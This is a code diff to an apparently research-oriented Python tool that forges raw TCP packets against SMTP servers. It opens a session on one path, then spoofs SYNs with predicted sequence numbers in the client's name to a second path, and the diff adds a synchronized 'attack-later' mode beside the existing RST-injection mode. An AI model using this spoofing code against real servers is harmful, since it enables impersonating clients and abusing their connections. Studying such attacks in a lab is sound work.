@@ -8,6 +8,8 @@
                                second one's acknowledgment number: a Linux server takes it for an old one where it isn't
                                ahead, which it is in half of the tries. Prints "open=N": how many second ones there were. N:
                                number of the first try; each has an address of its own
+  attack-later ...             the same with servers that have all acknowledged, and are silent; before the second ones it prints
+                               "ready", and waits for a line on stdin
   attack-rst ...               the same; before the second one, a RST dies on its way to the server
   spoof MAC WAY1 WAY2          an honest session on WAY1, and in the middle of it SYNs in its client's name to WAY2, for
                                longer than a session that doesn't say its way yet is one. Prints the codes it got
@@ -78,25 +80,25 @@ class TwoWays(Wire):
         self.conns[conn.src, conn.sport, conn.dst] = conn
 
 
-def say(conn, line):
+def say(conn, line, acknowledged=False):
     """The reply is acknowledged with an old sequence number, which doesn't count: a Linux server that waits for an
     acknowledgment isn't particular about the next one."""
     before = len(conn.got)
     conn.send(line)
     conn.wait(lambda: len(conn.got) > before, 4 * SLOW)
     conn.skip(len(line))
+    if acknowledged:
+        conn.send()
 
 
-def one_try(wire, number, way1, way2, with_rst, opened):
+def one_try(wire, number, way1, way2, before_second, opened, acknowledged=False):
     src = f"2001:db8:a::{number:x}" if is_v6(way1) else f"198.18.7.{number}"
     first = Conn(wire, src, way1, 21000 + number)
     if not first.connect() or not first.wait(lambda: b"220" in first.got, 4 * SLOW):
         print(f"# {src}: no first session", file=sys.stderr)
-        return
     say(first, b"EHLO x\r\n")
-    say(first, b"MAIL FROM:<a@local.example>\r\n")
-    if with_rst:
-        first.send(flags=RST, ttl=3)
+    say(first, b"MAIL FROM:<a@local.example>\r\n", acknowledged)
+    before_second(first)
     second = Conn(wire, src, way2, 21000 + number, isn=first.nxt + 5000 & 0xFFFFFFFF)
     if second.connect():
         opened.append(number)
@@ -108,14 +110,39 @@ def one_try(wire, number, way1, way2, with_rst, opened):
     first.send(line)
 
 
-def attack(mac, number, tries, way1, way2, with_rst=False):
+def attack(mac, number, tries, way1, way2, before_second=lambda first: None, acknowledged=False):
     wire, opened, numbers = TwoWays("eth0", mac), [], range(int(number), int(number) + int(tries))
-    threads = [threading.Thread(target=one_try, args=(wire, n, way1, way2, with_rst, opened)) for n in numbers]
+    threads = [threading.Thread(target=one_try, args=(wire, n, way1, way2, before_second, opened, acknowledged)) for n in numbers]
     for t in threads:
         t.start()
+    yield  # all are under way
     for t in threads:
         t.join()
     print(f"open={len(opened)}")
+
+
+def attack_at_once(*arguments):
+    list(attack(*arguments))
+
+
+def attack_rst(*arguments):
+    list(attack(*arguments, before_second=lambda first: first.send(flags=RST, ttl=3)))
+
+
+def attack_later(mac, number, tries, way1, way2):
+    all_there = threading.Barrier(int(tries) + 1)
+
+    def wait(first):
+        all_there.wait()  # until the last one is
+        all_there.wait()  # until the line is
+
+    running = attack(mac, number, tries, way1, way2, wait, acknowledged=True)
+    next(running)
+    all_there.wait()
+    print("ready", flush=True)
+    sys.stdin.readline()
+    all_there.wait()
+    list(running)
 
 
 # ---- with the system's ----
@@ -199,5 +226,6 @@ def again(way1, way2=None):
         print(type(e).__name__)
 
 
-COMMANDS = {"can": can, "attack": attack, "attack-rst": lambda *a: attack(*a, with_rst=True), "spoof": spoof, "both": both, "again": again}
+COMMANDS = {"can": can, "attack": attack_at_once, "attack-rst": attack_rst, "attack-later": attack_later, "spoof": spoof, "both": both,
+            "again": again}
 sys.exit(COMMANDS[sys.argv[1]](*sys.argv[2:]))
